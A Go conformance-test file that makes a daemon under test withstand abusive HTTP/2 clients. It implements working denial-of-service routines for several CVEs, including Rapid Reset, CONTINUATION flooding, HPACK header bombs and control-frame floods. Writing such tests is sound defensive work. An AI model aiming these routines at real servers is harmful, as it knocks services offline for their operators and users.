//go:build conformance

package conformance

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacks are the behaviours of clients that abuse HTTP/2. The daemon may end their
// connections at any time.
var attacks = []behaviour{
	{"reset each stream (CVE-2023-44487)", attack((*attacker).resetStreams)},
	{"make the daemon reset each stream (CVE-2025-8671)", attack((*attacker).provokeResets)},
	{"never end a header (CVE-2023-45288)", attack((*attacker).floodContinuations)},
	{"compress large headers (CVE-2016-1544)", attack((*attacker).expandHeaders)},
	{"send control frames without reading (CVE-2019-9512, -9515, -9518)", attack((*attacker).floodControlFrames)},
	{"never enlarge the window (CVE-2019-9511, -9517)", attack((*attacker).closeWindow)},
	{"open more streams than allowed", attack((*attacker).openManyStreams)},
}

// An attacker is a client with a connection on which it sends arbitrary frames.
type attacker struct {
	*client
	*http2.Framer
	connection net.Conn
	buffer     *bufio.Writer
	stream     uint32 // the last one opened; clients open odd ones
	header     bytes.Buffer
	encoder    *hpack.Encoder
}

// newAttacker connects a client.
func newAttacker(c *client) (*attacker, error) {
	connection, err := c.dial("h2")
	if err != nil {
		return nil, err
	}
	a := &attacker{client: c, connection: connection, buffer: bufio.NewWriter(connection), stream: 1}
	a.Framer = http2.NewFramer(a.buffer, nil)
	a.AllowIllegalWrites = true
	a.encoder = hpack.NewEncoder(&a.header)
	_, err = a.buffer.WriteString(http2.ClientPreface)
	return a, err
}

// attack returns a behaviour that connects and calls f. Errors of f are expected, because
// the daemon may end the connection.
func attack(f func(*attacker) error) func(*client) error {
	return func(c *client) error {
		a, err := newAttacker(c)
		if err != nil {
			return err
		}
		defer a.connection.Close()
		_ = f(a)
		_ = a.buffer.Flush()
		c.pause()
		return nil
	}
}

// start sends the settings with the initial window of streams, and discards all frames
// that the daemon sends.
func (a *attacker) start(window uint32) error {
	go func() { _, _ = io.Copy(io.Discard, a.connection) }()
	return a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
}

const defaultWindow, maxWindow = 1<<16 - 1, 1<<31 - 1

// open sends a request with further header fields on a new stream.
func (a *attacker) open(end bool, fields ...hpack.HeaderField) error {
	a.header.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "x"}, {Name: ":path", Value: a.target()},
	}, fields...) {
		if err := a.encoder.WriteField(f); err != nil {
			return err
		}
	}
	a.stream += 2
	return a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: a.header.Bytes(), EndStream: true, EndHeaders: end})
}

// repeat calls f until it fails, at most n times.
func repeat(n int, f func(i int) error) error {
	for i := range n {
		if err := f(i); err != nil {
			return err
		}
	}
	return nil
}

func (a *attacker) resetStreams() error {
	if err := a.start(defaultWindow); err != nil {
		return err
	}
	return repeat(3000, func(int) error {
		if err := a.open(true); err != nil {
			return err
		}
		return a.WriteRSTStream(a.stream, http2.ErrCodeCancel)
	})
}

func (a *attacker) provokeResets() error {
	if err := a.start(defaultWindow); err != nil {
		return err
	}
	violations := []func() error{
		func() error { return a.WriteWindowUpdate(a.stream, 0) },
		func() error { return a.WriteWindowUpdate(a.stream, maxWindow) },
		func() error { return a.WriteData(a.stream, true, []byte("after the end")) },
		func() error { return a.WritePriority(a.stream, http2.PriorityParam{StreamDep: a.stream}) },
	}
	return repeat(3000, func(int) error {
		if err := a.open(true); err != nil {
			return err
		}
		return violations[a.IntN(len(violations))]()
	})
}

func (a *attacker) floodContinuations() error {
	if err := a.start(defaultWindow); err != nil {
		return err
	}
	if err := a.open(false); err != nil {
		return err
	}
	return repeat(1000, func(i int) error {
		a.header.Reset()
		field := hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: strings.Repeat("x", 8000), Sensitive: true}
		if err := a.encoder.WriteField(field); err != nil {
			return err
		}
		return a.WriteContinuation(a.stream, false, a.header.Bytes())
	})
}

// expandHeaders sends headers of 30 KB, compressed to a few bytes.
func (a *attacker) expandHeaders() error {
	if err := a.start(0); err != nil {
		return err
	}
	cookie := hpack.HeaderField{Name: "cookie", Value: strings.Repeat("x", 3000)}
	fields := []hpack.HeaderField{cookie, cookie, cookie, cookie, cookie, cookie, cookie, cookie, cookie, cookie}
	return repeat(250, func(int) error { return a.open(true, fields...) })
}

func (a *attacker) floodControlFrames() error {
	if err := a.WriteSettings(); err != nil {
		return err
	}
	if err := a.open(true); err != nil {
		return err
	}
	return repeat(20_000, func(i int) error {
		switch i % 4 {
		case 0:
			return a.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
		case 1:
			return a.WritePriority(a.stream, http2.PriorityParam{Weight: uint8(i)})
		default:
			return a.WritePing(false, [8]byte{byte(i)})
		}
	})
}

func (a *attacker) closeWindow() error {
	if err := a.start(uint32(a.IntN(2) * defaultWindow)); err != nil {
		return err
	}
	return repeat(200, func(int) error { return a.open(true) })
}

func (a *attacker) openManyStreams() error {
	if err := a.start(maxWindow); err != nil {
		return err
	}
	if err := a.WriteWindowUpdate(0, maxWindow-defaultWindow); err != nil {
		return err
	}
	return repeat(500, func(int) error { return a.open(true) })
}
